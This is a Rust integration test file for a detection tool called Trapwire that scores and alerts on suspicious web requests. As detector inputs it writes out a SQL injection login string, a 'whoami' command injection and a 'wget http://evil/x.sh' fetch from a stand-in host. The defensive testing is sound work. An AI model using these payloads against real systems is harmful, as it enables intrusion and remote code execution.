//! # Trapwire - Integration Tests
//!
//! End-to-end tests that exercise the full scoring path:
//! raw event -> pipeline -> rule engine -> state store -> alert sink,
//! plus the read-side analytics over the resulting state.
//!
//! Alerts are verified through the real JSONL sink so the tests also cover
//! record serialization and the emitted_at hand-off stamp.

use std::fs;
use std::path::PathBuf;

use chrono::Utc;
use serde_json::json;

use trapwire::analytics;
use trapwire::detection::DetectionPipeline;
use trapwire::response::sink::JsonlSink;
use trapwire::{RawEvent, Severity, TrapConfig};

// ---------------------------------------------------------------------------
// Test helpers
// ---------------------------------------------------------------------------

/// Create a temporary directory for test files. Returns the path.
/// The caller is responsible for cleanup.
fn create_test_dir(test_name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join("trapwire-test").join(test_name);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("create test dir");
    dir
}

fn cleanup_test_dir(dir: &PathBuf) {
    let _ = fs::remove_dir_all(dir);
}

/// Pipeline wired to a JSONL alert sink inside `dir`.
fn test_pipeline(dir: &PathBuf) -> (DetectionPipeline, PathBuf) {
    let alert_path = dir.join("alerts.jsonl");
    let config = TrapConfig::default();
    let sink = Box::new(JsonlSink::new(alert_path.clone()));
    (DetectionPipeline::new(&config, sink), alert_path)
}

fn event(source: &str, path: &str, method: &str) -> RawEvent {
    RawEvent {
        source: Some(source.to_string()),
        path: Some(path.to_string()),
        method: Some(method.to_string()),
        ..RawEvent::default()
    }
}

/// Parse the alert log into JSON values (empty if no alerts were written).
fn read_alerts(path: &PathBuf) -> Vec<serde_json::Value> {
    match fs::read_to_string(path) {
        Ok(content) => content
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).expect("valid alert JSON"))
            .collect(),
        Err(_) => Vec::new(),
    }
}

// ---------------------------------------------------------------------------
// Spec scenarios
// ---------------------------------------------------------------------------

/// A single admin probe from a fresh source: tagged, scored, but below the
/// warn threshold, so no alert.
#[test]
fn scenario_admin_probe_scores_without_alert() {
    let dir = create_test_dir("admin_probe");
    let (pipeline, alert_path) = test_pipeline(&dir);

    let enriched = pipeline.process(&event("203.0.113.10", "/admin", "GET"), None);

    assert!(enriched.tags.iter().any(|t| t == "admin-probe"));
    assert!(enriched.score_delta >= 25);
    assert!(enriched.score_total >= 25);
    assert_eq!(enriched.severity, Severity::Info);
    assert!(read_alerts(&alert_path).is_empty());

    cleanup_test_dir(&dir);
}

/// SQL injection in a login body triggers both the endpoint weight and the
/// SQLi signature.
#[test]
fn scenario_sqli_login_combines_rules() {
    let dir = create_test_dir("sqli_login");
    let (pipeline, _) = test_pipeline(&dir);

    let mut e = event("203.0.113.11", "/login", "POST");
    e.body = Some(json!({"username": "admin' OR 1=1 --", "password": "x"}));

    let enriched = pipeline.process(&e, None);
    assert!(enriched.tags.iter().any(|t| t == "sqli"));
    assert!(enriched.tags.iter().any(|t| t == "login-probe"));
    assert!(enriched.score_delta >= 35);

    cleanup_test_dir(&dir);
}

/// Command-injection content in query params classifies the source as rce.
#[test]
fn scenario_rce_in_query_params() {
    let dir = create_test_dir("rce_query");
    let (pipeline, _) = test_pipeline(&dir);

    let mut e = event("203.0.113.12", "/api/exec", "GET");
    e.query_params
        .insert("cmd".to_string(), "whoami".to_string());

    let enriched = pipeline.process(&e, None);
    assert!(enriched.tags.iter().any(|t| t == "rce-attempt"));
    assert_eq!(enriched.attack_type_guess.as_str(), "rce");

    let summary = analytics::source_summary(pipeline.store(), "203.0.113.12");
    assert_eq!(summary.attack_type_guess.as_str(), "rce");

    cleanup_test_dir(&dir);
}

/// The 31st request inside a minute carries rate-spike (+20); on top of a
/// prior 45-point score that single delta crosses into warn and fires
/// exactly one alert.
#[test]
fn scenario_rate_spike_crosses_warn_once() {
    let dir = create_test_dir("rate_spike");
    let (pipeline, alert_path) = test_pipeline(&dir);
    let source = "203.0.113.13";

    {
        let handle = pipeline.store().get_or_create(source);
        let mut state = handle.lock();
        state.score = 45;
        let now = Utc::now();
        for _ in 0..30 {
            state.record_request(now);
        }
    }

    let enriched = pipeline.process(&event(source, "/", "GET"), None);

    assert!(enriched.tags.iter().any(|t| t == "rate-spike"));
    assert_eq!(enriched.score_delta, 20);
    assert_eq!(enriched.score_total, 65);
    assert_eq!(enriched.severity, Severity::Warn);

    let alerts = read_alerts(&alert_path);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["severity"], "warn");
    assert_eq!(alerts[0]["source_id"], source);

    // More of the same keeps severity at warn: no further alerts until a
    // critical crossing.
    pipeline.process(&event(source, "/", "GET"), None);
    assert_eq!(read_alerts(&alert_path).len(), 1);

    cleanup_test_dir(&dir);
}

/// Leaderboard orders sources by score with the documented severities.
#[test]
fn scenario_leaderboard_ordering() {
    let dir = create_test_dir("leaderboard");
    let (pipeline, _) = test_pipeline(&dir);

    for (source, score) in [
        ("192.168.1.1", 150),
        ("192.168.1.2", 75),
        ("192.168.1.3", 30),
    ] {
        let handle = pipeline.store().get_or_create(source);
        let mut state = handle.lock();
        state.score = score;
        state.last_seen = Some(Utc::now());
    }

    let board = analytics::leaderboard(pipeline.store(), 10);
    assert_eq!(board.len(), 3);
    assert_eq!(board[0].id, "192.168.1.1");
    assert_eq!(board[0].severity, Severity::Critical);
    assert_eq!(board[1].id, "192.168.1.2");
    assert_eq!(board[1].severity, Severity::Warn);
    assert_eq!(board[2].id, "192.168.1.3");
    assert_eq!(board[2].severity, Severity::Info);

    cleanup_test_dir(&dir);
}

// ---------------------------------------------------------------------------
// Full-pipeline behavior
// ---------------------------------------------------------------------------

/// A source that escalates from recon to exploitation: scores accumulate
/// exactly, the warn and critical crossings each alert once, and the alert
/// records carry evidence and the emitted_at stamp.
#[test]
fn test_escalating_attacker_alerts_on_each_crossing() {
    let dir = create_test_dir("escalation");
    let (pipeline, alert_path) = test_pipeline(&dir);
    let source = "198.51.100.7";

    // Recon: /admin (25) then /config (30) -> 55, still info.
    pipeline.process(&event(source, "/admin", "GET"), None);
    let recon = pipeline.process(&event(source, "/config", "GET"), None);
    assert_eq!(recon.score_total, 55);
    assert!(read_alerts(&alert_path).is_empty());

    // SQLi attempt on /login: +10 +25 -> 90, warn crossing.
    let mut sqli = event(source, "/login", "POST");
    sqli.body = Some(json!({"username": "x' OR 1=1 --"}));
    let warn_event = pipeline.process(&sqli, None);
    assert_eq!(warn_event.score_total, 90);
    assert_eq!(warn_event.severity, Severity::Warn);

    // RCE probe: +8 +35 -> 133, critical crossing.
    let mut rce = event(source, "/api/run", "POST");
    rce.query_params
        .insert("cmd".to_string(), "wget http://evil/x.sh".to_string());
    let crit_event = pipeline.process(&rce, None);
    assert_eq!(crit_event.score_total, 133);
    assert_eq!(crit_event.severity, Severity::Critical);
    assert_eq!(crit_event.attack_type_guess.as_str(), "rce");

    // Sustained critical stays silent.
    pipeline.process(&event(source, "/admin", "GET"), None);

    let alerts = read_alerts(&alert_path);
    assert_eq!(alerts.len(), 2);
    assert_eq!(alerts[0]["severity"], "warn");
    assert_eq!(alerts[1]["severity"], "critical");
    assert_eq!(alerts[1]["evidence"]["last_path"], "/api/run");
    assert_eq!(alerts[1]["attack_type_guess"], "rce");
    assert!(alerts[1]["emitted_at"].is_string());
    assert!(alerts[1]["top_tags"].as_array().unwrap().len() <= 5);

    cleanup_test_dir(&dir);
}

/// AI risk hints boost deltas on both accepted scales and are clamped.
#[test]
fn test_ai_hint_boosts_score() {
    let dir = create_test_dir("ai_hint");
    let (pipeline, _) = test_pipeline(&dir);

    let fractional = pipeline.process(&event("10.0.0.1", "/", "GET"), Some(0.75));
    assert_eq!(fractional.ai_boost, 15);
    assert_eq!(fractional.score_delta, 15);

    let percent = pipeline.process(&event("10.0.0.2", "/", "GET"), Some(75.0));
    assert_eq!(percent.ai_boost, 15);

    let absent = pipeline.process(&event("10.0.0.3", "/", "GET"), None);
    assert_eq!(absent.ai_boost, 0);

    cleanup_test_dir(&dir);
}

/// Analytics stay consistent with pipeline state: summaries see the
/// timeline, stats see the severity and attack-type buckets.
#[test]
fn test_analytics_reflect_pipeline_state() {
    let dir = create_test_dir("analytics");
    let (pipeline, _) = test_pipeline(&dir);

    pipeline.process(&event("10.1.0.1", "/admin", "GET"), None);
    pipeline.process(&event("10.1.0.1", "/backup", "GET"), None);
    pipeline.process(&event("10.1.0.2", "/health", "GET"), None);

    let summary = analytics::source_summary(pipeline.store(), "10.1.0.1");
    assert_eq!(summary.score, 55);
    assert_eq!(summary.timeline.len(), 2);
    assert_eq!(summary.attack_type_guess.as_str(), "recon");
    assert!(summary.top_tags.contains(&"admin-probe".to_string()));

    let stats = analytics::global_stats(pipeline.store());
    assert_eq!(stats.total_sources, 2);
    assert_eq!(stats.total_events, 3);
    assert_eq!(stats.by_severity["info"], 2);
    assert_eq!(stats.by_attack_type["recon"], 1);
    assert_eq!(stats.by_attack_type["unknown"], 1);

    cleanup_test_dir(&dir);
}

/// A path sweep from one source tags the 10th distinct path and classifies
/// the source as an automated scan.
#[test]
fn test_path_sweep_classification() {
    let dir = create_test_dir("path_sweep");
    let (pipeline, _) = test_pipeline(&dir);
    let source = "198.51.100.20";

    let mut last = None;
    for i in 0..10 {
        last = Some(pipeline.process(&event(source, &format!("/probe-{}", i), "GET"), None));
    }

    let last = last.unwrap();
    assert!(last.tags.iter().any(|t| t == "path-sweep"));
    assert_eq!(last.attack_type_guess.as_str(), "automated-scan");

    cleanup_test_dir(&dir);
}

/// Idle pruning evicts stale sources but leaves active ones scoreable.
#[test]
fn test_prune_evicts_idle_sources() {
    let dir = create_test_dir("prune");
    let (pipeline, _) = test_pipeline(&dir);

    pipeline.process(&event("10.2.0.1", "/admin", "GET"), None);
    pipeline.process(&event("10.2.0.2", "/admin", "GET"), None);

    // Age one source past the idle cutoff.
    {
        let handle = pipeline.store().get("10.2.0.1").unwrap();
        handle.lock().last_seen = Some(Utc::now() - chrono::Duration::minutes(120));
    }

    let evicted = pipeline.store().prune_idle(60);
    assert_eq!(evicted, 1);
    assert!(pipeline.store().get("10.2.0.1").is_none());

    // The evicted source starts from zero if it comes back.
    let returned = pipeline.process(&event("10.2.0.1", "/admin", "GET"), None);
    assert_eq!(returned.score_total, 25);

    // The active source kept its history.
    let kept = analytics::source_summary(pipeline.store(), "10.2.0.2");
    assert_eq!(kept.score, 25);

    cleanup_test_dir(&dir);
}

/// Unwritable alert storage must not abort scoring.
#[test]
fn test_sink_failure_does_not_stop_scoring() {
    let config = TrapConfig::default();
    // A path under a file (not a directory) cannot be created.
    let dir = create_test_dir("bad_sink");
    let blocker = dir.join("blocker");
    fs::write(&blocker, "x").unwrap();
    let sink = Box::new(JsonlSink::new(blocker.join("alerts.jsonl")));

    let pipeline = DetectionPipeline::new(&config, sink);
    let source = "198.51.100.30";

    // Drive the source over warn: delivery fails, scoring continues.
    pipeline.process(&event(source, "/config", "GET"), None);
    pipeline.process(&event(source, "/config", "GET"), None);
    let enriched = pipeline.process(&event(source, "/config", "GET"), None);
    assert_eq!(enriched.score_total, 90);
    assert_eq!(enriched.severity, Severity::Warn);

    cleanup_test_dir(&dir);
}
